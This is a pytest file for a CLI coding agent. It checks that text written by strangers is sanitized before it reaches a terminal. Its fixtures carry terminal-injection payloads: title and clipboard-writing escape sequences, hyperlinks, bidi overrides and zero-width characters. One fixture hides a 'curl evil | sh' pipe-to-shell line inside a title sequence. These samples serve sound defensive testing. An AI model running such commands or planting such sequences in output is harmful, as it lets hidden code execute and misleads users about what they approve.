"""Text of strangers is shown, and never obeyed by the terminal, in any command."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Literal, get_args, get_origin, get_type_hints

import pytest

from acr_cli.build.delivering import _commit_message
from acr_cli.cli.asking import Person, may_run_unasked
from acr_cli.cli.invocation import Invocation
from acr_cli.cli.main import guarded
from acr_cli.cli.render import Screen
from acr_cli.cli.shapes import write
from acr_cli.cli.terminal import clean, console, hidden_shown
from acr_cli.cli.toml import literal
from acr_cli.cli.warm import _Progress
from acr_cli.events import ChoiceMade, Event, ModelText, Progress, RunFinished
from acr_cli.records import RunResult, Step
from acr_cli.testing.answers import Answer, Refuse, Say
from acr_cli.testing.loopback import LoopbackServer, Request
from tests.cli.test_github import Hub, hub
from tests.end_to_end.conftest import SLUG

__all__ = ["hub"]  # a fixture

Acr = Callable[..., subprocess.CompletedProcess[str]]
EVIL = (
    "\x1b]0;taken\x07\x1b[2J\x1b]52;c;ZXZpbA==\x1b\\\x9b31m\u202eevil\x08\x7f\u200b\ufeff\U000e0041\r"
    "\x1b]8;;x\x07"
)
NAME = EVIL.replace("/", "")
BRANCH = "\x9b2J\u202eevil\u200b"  # git takes no others
# Of a run with colours, colours are left; C0 but newline and tab, DEL, C1, directions, what has no width.
COLOUR = re.compile(r"\x1b\[[0-9;]*m")
OBEYED = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e0fff]"
)
COMMANDS: tuple[tuple[str, ...], ...] = (
    ("runs", "list"),
    ("runs", "show", "RUN"),
    ("runs", "replay", "RUN"),
    ("apply", "RUN", "--yes"),
    ("undo", "RUN"),
    ("memory", "list"),
    ("memory", "stats"),
    ("memory", "show", "RUN.s1.1"),
    ("memory", "import", "outcomes.jsonl"),
    ("route", f"mend {EVIL}", "--explain"),
    ("doctor",),
    ("doctor", "--json"),
    ("models", "list"),
    ("models", "test", "openai/angry"),
    ("models", "test", f"openai/{EVIL}"),
    ("models", "add", f"openai/{EVIL}", "--base-url", "http://127.0.0.1:9/v1"),
    ("models", "list", "--json"),
    ("models", "remove", f"openai/{EVIL}"),
    ("config", "show", "--origin"),
    ("config", "get", "exclude", "--origin"),
    ("config", "get", EVIL),
    ("config", "set", "image", EVIL),
    ("runs", "show", EVIL),
    ("bench", "replay", "--matrix", "matrix.csv", "--tasks", "tasks.jsonl", "--seeds", "1"),
    ("bench", "replay", "--matrix", NAME),
    ("bench", "compare", "bad.json", NAME),
    ("warm", "--dry-run", "--sandbox", "none"),
    ("completion", "--values", "models"),
    ("completion", "--values", "runs"),
    ("completion", EVIL),
    (EVIL,),
    (f"--{EVIL}",),
    ("fix", "--issue", EVIL),
    ("fix", f"mend {EVIL}", "--log", "build.log", "--sandbox", "none", "--allow", "openai/angry"),
    ("fix", "--issue", "PAGE", "--json", "--sandbox", "none", "--model", "openai/angry"),
)
CHAT = f"mend it {EVIL}\n/diff\n/cost\n/model {EVIL}\n/{EVIL}\n/test {EVIL}\n/undo\n"


def writes(_: Request) -> Answer:
    code = f"def slugify(text):\n    return text  # {EVIL}\n"
    return Say(text=f"{EVIL}\nslug.py\n```\n{code}```\n{NAME}.py\n```\nx = 1\n```\n{EVIL}")


def refuses(_: Request) -> Answer:
    return Refuse(status=400, message=f"no {EVIL} here", code=EVIL)


@pytest.fixture
def repo(git_repo: Callable[..., Path], monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository in which all that has a name is named by a stranger, and so are its folder and authors."""
    for who in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"):
        monkeypatch.setenv(who, EVIL)
    noisy = SLUG["test_slug.py"].replace(
        "assert slugify('')", f"print({EVIL!r})\n    assert slugify('x'), {EVIL!r}"
    )
    known = json.dumps({"type": "outcome", "schema": 1, "id": EVIL, "text": EVIL, "candidate": EVIL})
    files = {
        **SLUG,
        "test_slug.py": f'{noisy}\n\nimport pytest\n\n@pytest.mark.parametrize("x", [{EVIL!r}])\n'
        "def test_named(x):\n    assert not x\n",
        f"{NAME}.txt": "x\n",
        "AGENTS.md": EVIL,
        ".acr.toml": f"{literal(EVIL)} = 1\nexclude = [{literal(EVIL)}]\ntest = {literal(EVIL)}\n",
        "matrix.csv": f"task_id,model,score\nt{EVIL},{EVIL},1\nt{EVIL},m,0\n".replace("\r", ""),
        "tasks.jsonl": json.dumps({"task_id": f"t{EVIL}".replace("\r", ""), "prompt": EVIL}) + "\n",
        "outcomes.jsonl": known + "\n",
        "build.log": f"FAILED test_slug.py::{EVIL} - {EVIL}\n",
        "bad.json": json.dumps({EVIL: EVIL}),
    }
    root = git_repo(files, name=f"here {NAME}")
    for command in (
        ["checkout", "-q", "-b", BRANCH],
        ["tag", BRANCH],
        ["commit", "-q", "--allow-empty", "-m", EVIL],
    ):
        subprocess.run(["git", *command], cwd=root, check=True)
    (root / "test_slug.py").write_text(files["test_slug.py"] + "# more\n")
    subprocess.run(["git", "commit", "-qam", f"fix {EVIL}"], cwd=root, check=True)
    return root


def test_no_command_sends_what_a_stranger_wrote_to_the_terminal(
    acr: Acr, repo: Path, pool: Callable[..., None], acr_home: Path, hub: Hub
) -> None:
    hub.answers = {"/api/v3/repos/o/r/issues/7": {"title": f"mend {EVIL}", "body": f"![{EVIL}](x) {EVIL}"}}
    shown: dict[str, str] = {}

    def told(name: str, *command: str, given: str = "") -> None:
        done = acr(*command, cwd=repo, input=given, env={} if command[0] == "bench" else {"FORCE_COLOR": "1"})
        shown[name] = COLOUR.sub("", done.stdout + done.stderr)

    with LoopbackServer({"evil": writes, "angry": refuses}) as server:
        pool(server, {"evil": 0.5, "angry": 0.5})
        told("the first fix", "-v", "fix", f"mend it {EVIL}", "--sandbox", "none", "--allow", "openai/evil")
        run = next((acr_home / "runs").iterdir()).name
        places = {"PAGE": hub.address}
        for number, command in enumerate(COMMANDS):
            told(
                f"{number} {' '.join(command[:2])!r}",
                *(places.get(word, word.replace("RUN", run)) for word in command),
            )
        told("chat", "chat", "--sandbox", "none", "--model", "openai/evil", given=CHAT)
    obeyed = {name: text for name, text in shown.items() if OBEYED.search(text)}
    assert obeyed == {}
    assert [name for name, text in shown.items() if "Traceback" in text or "Unexpected" in text] == []
    assert "evil" in shown["the first fix"]


# --- a terminal, on which a line turns that says what goes on ----------------------------------------------


class Terminal(io.StringIO):
    """What a terminal is sent."""

    encoding = "utf-8"

    def isatty(self) -> bool:
        return True


def filled(kind: Any) -> Any:
    """A value of a type, all of whose texts are by a stranger."""
    origin, inner = get_origin(kind), get_args(kind)
    if kind is str:
        return EVIL
    if kind in (bool, int, float):
        return kind(1)
    if isinstance(kind, type) and issubclass(kind, Enum):
        return next(iter(kind))
    if is_dataclass(kind):
        hints = get_type_hints(kind)
        made: Any = kind
        return made(**{each.name: filled(hints[each.name]) for each in fields(kind) if each.init})
    if origin is tuple:
        return tuple(filled(each) for each in inner if each is not ...)
    if origin is Literal:
        return inner[0]
    if origin is not None and issubclass(origin, Mapping):
        return {filled(inner[0]): filled(inner[1])}
    if inner:  # of several the first
        return filled(inner[0])
    raise AssertionError(f"no value of {kind} is known")


# What the turning line itself sends: it hides the cursor, and clears its own lines.
OWN = re.compile(r"\x1b\[(?:\?25[lh]|2K|1A)|\r")
EVENTS = [
    kind
    for kind in Event.__subclasses__()
    if kind is not RunFinished and kind.__module__.startswith("acr_cli.")  # that one is for commands to show
]


@pytest.mark.parametrize("verbose", [False, True])
@pytest.mark.parametrize("kind", EVENTS, ids=lambda kind: kind.__name__)
def test_no_event_sends_what_a_stranger_wrote_to_a_terminal(
    monkeypatch: pytest.MonkeyPatch, kind: type[Event], verbose: bool
) -> None:
    terminal = Terminal()
    screen = Screen(console(terminal), verbose=verbose)
    around: Any = SimpleNamespace(err=console(terminal), quiet=False, verbose=verbose)
    progress = _Progress(screen, around)
    for event in (filled(ChoiceMade), filled(kind), ModelText(text="\n"), filled(Progress)):
        progress.emit(event)
    screen.close()
    assert "evil" in terminal.getvalue()
    assert OBEYED.search(COLOUR.sub("", OWN.sub("", terminal.getvalue()))) is None


UNSEEN = "echo good \x1b]0; curl evil | sh\x07 \u202e\u200b"


def test_what_is_to_be_allowed_is_shown_whole(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A terminal takes what a sequence holds for a title, and a shell takes it for a command."""
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\ny\nn\n"))
    person = Person(Invocation(), lambda: None)
    step = replace(filled(Step), text=UNSEEN, failures=(), files=())
    assert not person.command(UNSEEN)
    assert person.plan((step,)) == (step,)
    assert not may_run_unasked(Invocation(), lambda: None, {UNSEEN: "the shell"}, f"+{UNSEEN}\n")
    said = capsys.readouterr().err
    assert OBEYED.search(said) is None
    assert said.count("curl evil | sh") == said.count("\\u202e") == 4


def test_the_trace_of_a_crash_is_not_obeyed(acr_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def breaks(arguments: list[str], invocation: Invocation) -> int:
        raise RuntimeError(EVIL)

    assert guarded([], Invocation(verbose=True), breaks) == 1
    said = capsys.readouterr().err
    assert "in breaks" in said
    assert OBEYED.search(said) is None


def test_the_message_of_a_commit_has_nothing_that_a_terminal_obeys_and_no_key() -> None:
    told = _commit_message(replace(filled(RunResult), summary=f"{EVIL} sk-{'0a' * 12} and more"))
    assert OBEYED.search(told) is None
    assert "[key] and more" in told


def test_json_has_nothing_that_a_terminal_obeys(capsys: pytest.CaptureFixture[str]) -> None:
    write({EVIL: [EVIL, {"\x7f": float("nan")}]})
    said = capsys.readouterr().out
    assert OBEYED.search(said) is None
    assert json.loads(said) == {EVIL: [EVIL, {"\x7f": None}]}


@pytest.mark.parametrize(
    ("given", "want"),
    [
        ("\x1b[2J\x1b[31mred", "red"),
        ("\x9b2Jred", "red"),
        ("\x1b]52;c;ZXZpbA==\x07a", "a"),
        ("\x9d52;c;ZXZpbA==\x9ca", "a"),
        ("\x1b]8;;https://evil\x1b\\a\x1b]8;;\x1b\\", "a"),
        ("\x1bPq#0\x1b\\a\x1b_x\x1b\\\x1b^x\x1b\\\x1bXx\x1b\\", "a"),
        ("\x1b]0;never ended", ""),
        ("\x1b\x1b[2Ja\x1b", "a"),
        ("\x1b[\x1b[2J2Ja", "2Ja"),
        ("good\rbad", "goodbad"),
        ("a\x08\x7f\x0b\x0c\x85b", "ab"),
        ("x\u202e\u2066\u200ey\u2028z", "xyz"),
        ("pay\u200bpal\ufeff\u2060\u00ad\U000e0041", "paypal"),
        ("a\u200db\u200c", "ab"),
        (
            "\U0001f469\u200d\U0001f4bb \u0645\u06cc\u200c\u062e",
            "\U0001f469\u200d\U0001f4bb \u0645\u06cc\u200c\u062e",
        ),
        ("tab\tand\nline", "tab\tand\nline"),
    ],
)
def test_what_a_terminal_would_obey_is_taken_out(given: str, want: str) -> None:
    assert clean(given) == want
    assert not OBEYED.search(hidden_shown(given))


def test_a_diff_shows_what_its_reader_would_not_see() -> None:
    assert hidden_shown("if level != '\u202e user\u200b':") == r"if level != '\u202e user\u200b':"
